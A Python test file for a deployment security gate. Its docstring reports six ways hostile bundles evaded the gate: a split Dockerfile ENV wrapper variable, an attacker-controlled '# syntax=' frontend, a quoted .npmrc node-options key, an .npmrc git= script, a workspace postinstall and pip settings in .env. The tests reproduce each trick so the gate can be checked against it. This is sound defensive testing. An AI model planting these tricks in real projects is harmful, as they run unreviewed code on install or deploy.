r"""A thirty-third hostile review of `gate check`, on review 31's fixes: what a Node.js
install reads (gate.bundle.discovery.npm `install_programs`), the Dockerfile reader
(gate.bundle.discovery.dockerfile), and pip sources the Serverless Framework's environment
names.

Each attack is a confirmed problem: the test says what the gate must do, and a baseline
beside it shows the same bundle without the trick blocks (bandit's B605 on the code the
trick deploys, put where the gate reads it; for 1, the same wrapper named in the
template, GATE-IAC-018). Every attack exited 0 with the hostile harness's policy (checkov
off). What npm does was checked with npm 11.19 offline; what docker does, by reading
BuildKit's Dockerfile parser and frontend. What lets each through:

1. A startup variable split by a continuation line. `_instructions`
   (gate.bundle.discovery.dockerfile) joins a continued line to the next with a space
   (`current += stripped[:-1] + " "`) and strips the next line's indent; docker's parser
   drops the escape and the newline and joins with nothing. `ENV AWS_LAMBDA_EXEC_\` then
   `WRAPPER=/var/task/wrap.sh` is `AWS_LAMBDA_EXEC_WRAPPER` to docker and
   `AWS_LAMBDA_EXEC_ WRAPPER=...` to the gate, which `_STARTS` (`\b...\b`) does not match;
   ENV being an option, the image starts wrap.sh (running boot.txt, Python read as
   text) and the run passes. Any word the reader matches can be split the same way.
2. A `# syntax=` parser directive. `_instructions` pops every parser directive and reads
   only `escape`; `# syntax=docker.io/attacker/frontend:1` makes BuildKit (the default
   builder of `docker build` since Docker 23, which the Serverless Framework runs for
   `provider.ecr.images`) pull that image and let it build the image from the Dockerfile
   as it likes: the plain `FROM`/`COPY`/`CMD` the gate reads say nothing of what is built.
3. A quoted key in `.npmrc`. `_RUNNING_SETTINGS` (gate.bundle.discovery.npm) matches
   `^\s*(node-options|script-shell|onload-script)\s*=`; npm's ini parser unquotes a key,
   so `"node-options"=--require ./tools/boot.js` is node-options to npm (`npm config get
   node-options` prints it), and every node process npm starts runs tools/boot.js.
4. `.npmrc` `git=`. npm runs its `git` setting for every git dependency (`github:a/b`,
   `git+https:`), which `local_spec` rightly takes for a server's: `git=./tools/git.sh`
   makes `npm install` run the bundle's script (`./tools/git.sh --no-replace-objects
   ls-remote ssh://git@github.com/a/b.git`, seen offline) before it fetches anything.
5. A workspace member's install scripts. `install_programs` reads the package.json of the
   service's folder and the folders above it, not the packages their `workspaces` name:
   a root `"workspaces": ["tools/boot"]` makes `npm install` at the root link
   tools/boot and run its postinstall (seen offline: it wrote svc/sitecustomize.py).
6. pip's environment from the service's `.env`. With `useDotenv: true` the Framework
   loads svc/.env (dotenv-expand'ed) into its environment, which
   serverless-python-requirements' pip inherits: `PIP_NO_INDEX=1` and
   `PIP_FIND_LINKS=${PWD}/../wheels` install six from a wheel of the bundle outside the
   service (counted not analysed), though `--find-links ${PWD}/../wheels` in
   requirements.txt is refused (`local_source`). Nothing of the gate reads `.env`.

Suggested fixes, by class. 1 and 2: read a Dockerfile as docker does: join continuation
lines with nothing (BuildKit's `line += continuationLine`), and take any parser directive
but `escape` (`syntax`, `check`) as a step the gate cannot follow; better, match
variable names on ENV's parsed key/value pairs, not a regex on the line. 3 and 4: read
.npmrc as npm's ini does (unquote keys, `key[]`), and take any setting naming a program or
a file to load (`git`, `node-options`, `script-shell`, `shell`, `onload-script`,
`userconfig`, `globalconfig`, `init-module`, ...) as one the gate cannot follow, or
allow only a known list of harmless keys (registry, auth, cache, fund, audit). 5: follow
`workspaces` (npm/yarn's array and `{packages: [...]}`, pnpm-workspace.yaml) and read each
member package.json as the root's. 6: read what the Framework loads into its environment
(`.env`, `.env.<stage>` with `useDotenv`, and v4's default loading): a `PIP_*`,
`PYTHON*`, `NODE_OPTIONS` or `npm_config_*` variable there is a part the gate cannot
follow, or fed to `local_source` as a pip option.

Also tried, and the gate held: the wheels of 6 inside the service folder (refused as a
zip in the function's code, whatever `package.patterns` says). Held by review 31's cases
and not run again: an unquoted `node-options=`, the workspace script as the root's own
postinstall, a one-line `ENV` of a startup variable.

Not covered: `.npmrc` `userconfig`/`globalconfig` naming a file of the bundle (npm reads
the project config first, so it may choose the user config; not run), `ini` array keys
(`node-options[]=`), yarn berry `.yarn/plugins` without a `.yarnrc.yml` key, `.yarnrc`
`script-shell` for yarn 1, corepack `packageManager` URLs; Dockerfile `FROM x AS x` (a
stage named as the image it starts from: `_known_base` adds the stage before it checks
the image, but only Docker's official images have names without a slash, so an attacker
cannot publish one); `PATH`/`LAMBDA_RUNTIME_DIR` in `ENV` (which program the base
image's bootstrap takes from them was not established offline); CDK `cdk.json`
`output`, serverless.ts, `uv.toml`/`[tool.uv]` `find-links`, Serverless `_image`,
`cacheLocation` and vendor (not reached in the time).

Fixed, each by its class (gate.bundle.discovery.dockerfile and .npm): 1, a continued
Dockerfile line is joined to the next as docker joins it, with nothing between, and an
`ENV` is also matched with its white space taken out. 2, a parser directive other than
`escape`, or a `syntax` other than Docker's own frontends, is a step the gate cannot
follow. 3 and 4, `.npmrc` is read as npm reads its keys (quotes, scopes and `[]` taken
off) against an allow-list of keys that run and fetch nothing: any other (`node-options`,
`git`, `cache`...) is a part the gate cannot follow. 5, the members of npm, yarn and pnpm
workspaces declared at any folder from the service up are read for install scripts and
bundle packages. 6, a `.env` file of those folders setting pip, npm, uv or Python
variables is a part the gate cannot follow.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

from tests.hostile.conftest import (
    Sandbox,
    each_blocked_or_refused,
    each_blocks,
)
from tests.hostile.test_review25 import HARMLESS
from tests.hostile.test_review26 import PLANTED, service, wheel
from tests.hostile.test_review27 import CMD, FROM
from tests.hostile.test_review28 import WRITE_SITECUSTOMIZE, ecr_image
from tests.hostile.test_review31 import npmrc, planted, svc_service, wrapped, wrapper_in_template

Layout = Callable[[Sandbox], None]


# --- 1. a startup variable split by a continuation line -------------------------------------------


def wrapper_split(sandbox: Sandbox) -> None:
    """ENV AWS_LAMBDA_EXEC_WRAPPER, its name continued on the next line."""
    wrapped(sandbox, FROM + "ENV AWS_LAMBDA_EXEC_\\\nWRAPPER=/var/task/wrap.sh\n" + CMD)


# --- 2. a # syntax= directive: a build frontend of the attacker's ---------------------------------


def syntax_frontend(sandbox: Sandbox) -> None:
    """A Serverless image whose Dockerfile BuildKit builds with the attacker's frontend."""
    ecr_image(sandbox)
    sandbox.write("Dockerfile", "# syntax=docker.io/attacker/frontend:1\n" + FROM + CMD)


# --- 3. and 4. .npmrc settings the gate does not match --------------------------------------------


def quoted_node_options(sandbox: Sandbox) -> None:
    """Review 31's .npmrc (every node process requires tools/boot.js), its key quoted."""
    npmrc(sandbox)
    sandbox.write(".npmrc", '"node-options"=--require ./tools/boot.js\n')


def npmrc_git(sandbox: Sandbox) -> None:
    """npm runs tools/git.sh (which runs tools/boot.js) for a git dependency."""
    service(sandbox)
    sandbox.write(
        "package.json",
        '{"name": "orders", "private": true, "devDependencies": '
        '{"serverless": "^3.38.0", "x": "github:a/b"}}\n',
    )
    sandbox.write(".npmrc", "git=./tools/git.sh\n")
    os.chmod(sandbox.write("tools/git.sh", "#!/bin/sh\nnode tools/boot.js\n"), 0o755)
    sandbox.write("tools/boot.js", WRITE_SITECUSTOMIZE)


# --- 5. a workspace member's install scripts ------------------------------------------------------


def workspace_member(sandbox: Sandbox) -> None:
    """The root's workspace tools/boot, whose postinstall writes svc/sitecustomize.py."""
    svc_service(sandbox)
    sandbox.write(
        "package.json",
        '{"name": "mono", "private": true, "workspaces": ["tools/boot"], '
        '"devDependencies": {"serverless": "^3.38.0"}}\n',
    )
    sandbox.write(
        "tools/boot/package.json",
        '{"name": "boot", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}\n',
    )
    sandbox.write(
        "tools/boot/setup.js",
        WRITE_SITECUSTOMIZE.replace("'sitecustomize.py'", "'../../svc/sitecustomize.py'"),
    )


# --- 6. pip's environment from the service's .env -------------------------------------------------

DOTENV_SERVICE = """\
service: orders
frameworkVersion: '3'
useDotenv: true
plugins:
  - serverless-python-requirements
custom:
  pythonRequirements:
    dockerizePip: false
provider:
  name: aws
  runtime: python3.12
  tracing: {lambda: true}
functions:
  api:
    handler: app.handler
"""


def requirements_service(sandbox: Sandbox) -> None:
    """A service in svc/ whose plugin installs six, beside a folder of wheels at the root."""
    sandbox.write("svc/serverless.yml", DOTENV_SERVICE)
    sandbox.write("svc/app.py", "import six  # noqa: F401\n\n\n" + HARMLESS)
    sandbox.write("svc/requirements.txt", "six==1.16.0\n")
    sandbox.write("wheels/six-1.16.0-py3-none-any.whl", wheel())


def dotenv_find_links(sandbox: Sandbox) -> None:
    requirements_service(sandbox)
    sandbox.write("svc/.env", "PIP_NO_INDEX=1\nPIP_FIND_LINKS=${PWD}/../wheels\n")


# name: (the bundle without the trick, with it, the baseline's finding, why it passes)
TRICKS: dict[str, tuple[Layout, Layout, str, str]] = {
    "dockerfile-env-continued": (
        wrapper_in_template, wrapper_split, "GATE-IAC-018",
        "_instructions joins a continued line with a space; docker joins with nothing",
    ),
    "dockerfile-syntax-directive": (
        planted(ecr_image, "sitecustomize.py"), syntax_frontend, "B605",
        "parser directives other than escape are dropped",
    ),
    "npmrc-quoted-key": (
        planted(service, "sitecustomize.py"), quoted_node_options, "B605",
        "_RUNNING_SETTINGS does not unquote ini keys",
    ),
    "npmrc-git": (
        planted(service, "sitecustomize.py"), npmrc_git, "B605",
        ".npmrc git= is not a running setting to the gate",
    ),
    "npm-workspace-member": (
        planted(svc_service, "svc/sitecustomize.py"), workspace_member, "B605",
        "workspaces are not followed",
    ),
    "dotenv-pip-find-links": (
        planted(requirements_service, "svc/six.py", PLANTED), dotenv_find_links, "B605",
        "the Framework's .env is not read",
    ),
}  # fmt: skip


def test_the_code_each_trick_deploys_blocks(tmp_path: Path) -> None:
    """The baselines, in one run of every bundle: the same bundle without the trick, the
    code it would deploy where the gate reads it, blocks."""
    each_blocks(tmp_path, {name: (plain, rule) for name, (plain, _, rule, _) in TRICKS.items()})


def test_code_the_deploy_runs_or_puts_in_is_scanned_or_refused(tmp_path: Path) -> None:
    """The deploy runs, or puts into a Python function, code the gate never read: the run
    must not pass."""

    each_blocked_or_refused(tmp_path, {trick: case[1] for trick, case in sorted(TRICKS.items())})
